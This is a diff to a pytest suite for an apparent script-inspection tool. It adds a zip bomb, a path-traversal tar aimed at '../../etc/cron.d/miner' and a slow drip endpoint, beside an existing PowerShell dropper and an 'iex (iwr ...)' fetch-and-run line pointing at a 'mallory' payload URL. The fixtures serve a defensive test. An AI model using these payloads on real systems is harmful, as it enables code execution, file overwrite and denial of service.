@@ -7,6 +7,9 @@ the repository reputation, and say when something could not be fetched.
 
 from __future__ import annotations
 
+import asyncio
+import io
+import tarfile
 from collections.abc import AsyncIterator
 import pytest
 from aiohttp import web
@@ -30,6 +33,15 @@ DROPPER = (b"$wc = New-Object System.Net.WebClient\r\n"
 HARMLESS = b"Install-WindowsFeature -Name Web-Server -IncludeManagementTools\r\n"
 
 
+def _traversal_tar() -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as archive:
+        info = tarfile.TarInfo("../../etc/cron.d/miner")
+        info.size = len(HARMLESS)
+        archive.addfile(info, io.BytesIO(HARMLESS))
+    return buf.getvalue()
+
+
 @pytest.fixture
 async def raw_github() -> AsyncIterator[int]:
     """raw.githubusercontent.com: a dropper in a new repository, a template in an old one, a DSC zip."""
@@ -40,6 +52,8 @@ async def raw_github() -> AsyncIterator[int]:
         "/contoso/templates/master/bootstrap.ps1": b"iex (iwr 'http://raw.githubusercontent.com:{port}"
                                                    b"/mallory/payloads/main/install.ps1' -UseBasicParsing).Content\r\n",
         "/contoso/templates/master/dsc/cfg.ps1.zip": zip_bytes({"cfg.ps1": HARMLESS, "mod/evil.ps1": DROPPER}),
+        "/mallory/payloads/main/bomb.zip": zip_bytes({"bomb.bin": b"\0" * (32 * 1024 * 1024)}),
+        "/mallory/payloads/main/slip.tar": _traversal_tar(),
     }
 
     async def serve(request: web.Request) -> web.StreamResponse:
@@ -48,7 +62,16 @@ async def raw_github() -> AsyncIterator[int]:
             return web.Response(status=404)
         return web.Response(body=body.replace(b"{port}", str(request.url.port).encode()))
 
+    async def drip(request: web.Request) -> web.StreamResponse:
+        response = web.StreamResponse()
+        await response.prepare(request)
+        for _ in range(600):
+            await response.write(b"#")
+            await asyncio.sleep(1)
+        return response
+
     app = web.Application()
+    app.router.add_get("/slow/drip.ps1", drip)
     app.router.add_get("/{tail:.*}", serve)
     runner, port = await start_app(app)
     yield port
@@ -156,3 +179,23 @@ async def test_a_dsc_package_from_github_is_fetched_unpacked_and_judged(inspecto
     # The dropper inside names a public address: closed-network mode refuses it, no packet leaves.
     assert (stage2.url, stage2.error, stage2.depth) == ("http://203.0.113.50:8080/svc.exe", "blocked_address", 1)
     assert "VM_DSCExtensionSuspiciousScript" in {a.alertType for a in verdict.alerts}
+
+
+async def test_a_bomb_a_zip_slip_and_a_drip_feed_are_cut_off_with_reasons_in_the_verdict(
+    fake_github: FakeGitHub, raw_github: int
+) -> None:
+    settings = closed_settings(github_api_url=fake_github.api_url, fetch_total_timeout_s=1.5, fetch_retries=0)
+    inspector = await Inspector.start(settings, workers=0, fetching=True)
+    base = f"http://raw.githubusercontent.com:{raw_github}"
+    try:
+        verdict = (await inspector.inspect(cse(f"{base}/mallory/payloads/main/bomb.zip",
+                                               f"{base}/mallory/payloads/main/slip.tar", f"{base}/slow/drip.ps1"))).verdict
+    finally:
+        await inspector.close()
+    errors = {e.kind: e.detail for e in verdict.errors}
+    assert "archive_bomb" in errors and "unpack_max_ratio" in errors["archive_bomb"]
+    assert "archive_path_traversal" in errors and "../../etc/cron.d/miner" in errors["archive_path_traversal"]
+    drip = next(f for f in verdict.fetches if f.url.endswith("/slow/drip.ps1"))
+    assert drip.error == "timeout" and "total timeout" in (drip.error_detail or "")
+    assert {"structure.archive.bomb", "structure.archive.path_traversal"} <= {f.id for f in verdict.findings}
+    assert verdict.complete is False
